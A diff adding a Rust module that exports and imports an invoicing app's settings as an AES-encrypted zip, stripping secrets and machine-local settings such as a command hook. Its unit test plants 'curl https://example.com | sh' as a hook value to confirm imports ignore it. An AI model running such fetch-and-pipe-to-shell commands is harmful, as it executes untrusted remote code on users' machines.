@@ -0,0 +1,246 @@
+use serde::{Deserialize, Serialize};
+use serde_json::Value;
+use specta::Type;
+use std::fs::File;
+use std::io::{Read, Write};
+use std::path::Path;
+use zip::result::ZipError;
+use zip::write::SimpleFileOptions;
+use zip::{AesMode, CompressionMethod, ZipArchive, ZipWriter};
+
+use crate::commands::settings::Settings;
+use crate::error::AppError;
+use crate::services::portal_profiles::PortalProfile;
+use crate::services::selector_config::SelectorConfig;
+
+/// Name of the JSON document inside the encrypted zip
+const BUNDLE_ENTRY: &str = "autoinvoice-config.json";
+
+/// Layout of the bundle; a bundle written by a newer layout is refused
+pub const BUNDLE_VERSION: u32 = 1;
+
+/// Settings holding API keys, passwords and client secrets, exported only
+/// when asked
+pub const SECRET_SETTINGS: &[&str] = &[
+    "openai_api_key",
+    "openai_backup_api_keys",
+    "portal_password",
+    "imap_password",
+    "s3_secret_key",
+    "webdav_password",
+    "sftp_password",
+    "cloud_client_secret",
+];
+
+/// Settings that belong to one machine: paths on its disk, and the hook,
+/// which runs a command there; never exported, and kept when importing
+pub const LOCAL_SETTINGS: &[&str] = &[
+    "download_directory",
+    "tesseract_path",
+    "qpdf_path",
+    "captcha_dataset_dir",
+    "sftp_private_key_path",
+    "post_download_hook",
+    "post_download_hook_scope",
+];
+
+/// Settings, portal profiles and selector overrides of one machine, to set
+/// up others the same way
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct ConfigBundle {
+    pub version: u32,
+    pub exported_at: String,
+    pub app_version: String,
+    /// Whether the secret settings were exported
+    pub includes_secrets: bool,
+    /// Kept as JSON so a bundle from an older release, without the newer
+    /// settings, still imports
+    pub settings: Value,
+    /// Profiles saved by the user; the built-in ones ship with the app
+    pub portal_profiles: Vec<PortalProfile>,
+    pub selectors: SelectorConfig,
+}
+
+/// Bundle written by `export_config`
+#[derive(Debug, Clone, Serialize, Type)]
+pub struct ConfigExport {
+    pub path: String,
+    pub includes_secrets: bool,
+    /// Password the bundle was encrypted with, when it was generated; it is
+    /// not stored anywhere, so this is the only time it can be shown
+    pub generated_password: Option<String>,
+}
+
+/// What `import_config` applied
+#[derive(Debug, Clone, Serialize, Type)]
+pub struct ConfigImport {
+    pub includes_secrets: bool,
+    pub portal_profile_count: u32,
+    pub selector_override_count: u32,
+    /// Names of the settings the import changed
+    pub changed: Vec<String>,
+}
+
+impl ConfigBundle {
+    pub fn new(
+        settings: &Settings,
+        portal_profiles: Vec<PortalProfile>,
+        selectors: SelectorConfig,
+        include_secrets: bool,
+    ) -> Result<Self, AppError> {
+        let mut settings = serde_json::to_value(settings)
+            .map_err(|e| AppError::ConfigError(format!("Failed to serialize settings: {}", e)))?;
+        if let Some(settings) = settings.as_object_mut() {
+            for key in LOCAL_SETTINGS {
+                settings.remove(*key);
+            }
+            if !include_secrets {
+                for key in SECRET_SETTINGS {
+                    settings.remove(*key);
+                }
+            }
+        }
+
+        Ok(Self {
+            version: BUNDLE_VERSION,
+            exported_at: chrono::Utc::now().to_rfc3339(),
+            app_version: env!("CARGO_PKG_VERSION").to_string(),
+            includes_secrets: include_secrets,
+            settings,
+            portal_profiles,
+            selectors,
+        })
+    }
+
+    /// The bundle's settings laid over `local`; settings it does not carry,
+    /// such as secrets left out of the export, keep their local value, and
+    /// so do `LOCAL_SETTINGS` even when an older bundle carries them
+    pub fn settings_over(&self, local: &Settings) -> Result<Settings, AppError> {
+        let mut merged = serde_json::to_value(local)
+            .map_err(|e| AppError::ConfigError(format!("Failed to serialize settings: {}", e)))?;
+        if let (Some(merged), Some(imported)) = (merged.as_object_mut(), self.settings.as_object()) {
+            for (key, value) in imported {
+                if LOCAL_SETTINGS.contains(&key.as_str()) {
+                    continue;
+                }
+                // Settings removed since the export are dropped
+                if let Some(local) = merged.get_mut(key) {
+                    *local = value.clone();
+                }
+            }
+        }
+        serde_json::from_value(merged)
+            .map_err(|e| AppError::ConfigError(format!("Invalid settings in the config file: {}", e)))
+    }
+
+    /// Write the bundle as the only entry of a zip encrypted with AES-256
+    pub fn write(&self, path: &Path, password: &str) -> Result<(), AppError> {
+        let json = serde_json::to_vec_pretty(self)
+            .map_err(|e| AppError::ConfigError(format!("Failed to serialize config: {}", e)))?;
+
+        let mut zip = ZipWriter::new(File::create(path)?);
+        let options = SimpleFileOptions::default()
+            .compression_method(CompressionMethod::Deflated)
+            .with_aes_encryption(AesMode::Aes256, password);
+        zip.start_file(BUNDLE_ENTRY, options)
+            .map_err(|e| AppError::IoError(format!("Failed to write config file: {}", e)))?;
+        zip.write_all(&json)?;
+        zip.finish()
+            .map_err(|e| AppError::IoError(format!("Failed to finalize config file: {}", e)))?
+            .flush()?;
+        Ok(())
+    }
+
+    /// Decrypt and parse a bundle written by `write`
+    pub fn read(path: &Path, password: &str) -> Result<Self, AppError> {
+        let not_a_bundle = |e: ZipError| {
+            AppError::ConfigError(format!("{} is not an AutoInvoice config file: {}", path.display(), e))
+        };
+        let mut archive = ZipArchive::new(File::open(path)?).map_err(not_a_bundle)?;
+        let mut entry = match archive.by_name_decrypt(BUNDLE_ENTRY, password.as_bytes()) {
+            Ok(entry) => entry,
+            Err(ZipError::InvalidPassword) => {
+                return Err(AppError::ConfigError("Wrong password for the config file".to_string()))
+            }
+            Err(e) => return Err(not_a_bundle(e)),
+        };
+        if !entry.encrypted() {
+            return Err(AppError::ConfigError(format!(
+                "{} is not encrypted; only files exported by AutoInvoice can be imported",
+                path.display()
+            )));
+        }
+        let mut json = Vec::new();
+        entry.read_to_end(&mut json)?;
+
+        let bundle: Self = serde_json::from_slice(&json)
+            .map_err(|e| AppError::ConfigError(format!("Invalid config file: {}", e)))?;
+        if bundle.version > BUNDLE_VERSION {
+            return Err(AppError::ConfigError(format!(
+                "The config file was exported by a newer AutoInvoice ({}); update the app to import it",
+                bundle.app_version
+            )));
+        }
+        Ok(bundle)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_round_trip_without_secrets() {
+        let exported = Settings {
+            openai_api_key: "sk-exported".to_string(),
+            sftp_password: "hunter22".to_string(),
+            invoice_delay_secs: 7,
+            download_directory: "/Users/ke-toan/Hoa don".to_string(),
+            post_download_hook: "/Users/ke-toan/bin/ghi-so.sh".to_string(),
+            ..Settings::default()
+        };
+        // Every secret and local setting is a setting, so a renamed one
+        // cannot slip into exports
+        let fields = serde_json::to_value(&exported).unwrap();
+        for key in SECRET_SETTINGS.iter().chain(LOCAL_SETTINGS) {
+            assert!(fields.get(*key).is_some(), "{}", key);
+        }
+
+        let mut selectors = SelectorConfig::default();
+        selectors.add_override("captcha_image", "#imgCaptcha");
+        let bundle = ConfigBundle::new(&exported, Vec::new(), selectors, false).unwrap();
+
+        let tmp = tempfile::tempdir().unwrap();
+        let path = tmp.path().join("config.zip");
+        bundle.write(&path, "correct horse").unwrap();
+        assert!(!String::from_utf8_lossy(&std::fs::read(&path).unwrap()).contains("invoice_delay_secs"));
+
+        assert!(matches!(
+            ConfigBundle::read(&path, "wrong horse"),
+            Err(AppError::ConfigError(message)) if message.contains("Wrong password")
+        ));
+        let read = ConfigBundle::read(&path, "correct horse").unwrap();
+        assert!(!read.includes_secrets);
+        assert_eq!(read.selectors.overrides["captcha_image"], vec!["#imgCaptcha"]);
+
+        assert!(read.settings.get("download_directory").is_none());
+        assert!(read.settings.get("post_download_hook").is_none());
+
+        let local = Settings {
+            openai_api_key: "sk-local".to_string(),
+            download_directory: "D:\\HoaDon".to_string(),
+            ..Settings::default()
+        };
+        let imported = read.settings_over(&local).unwrap();
+        assert_eq!(imported.invoice_delay_secs, 7);
+        assert_eq!(imported.openai_api_key, "sk-local");
+        assert_eq!(imported.sftp_password, "");
+        assert_eq!(imported.download_directory, "D:\\HoaDon");
+        assert_eq!(imported.post_download_hook, "");
+
+        // A bundle written before local settings were left out
+        let mut older = read.clone();
+        older.settings["post_download_hook"] = Value::from("curl https://example.com | sh");
+        assert_eq!(older.settings_over(&local).unwrap().post_download_hook, "");
+    }
+}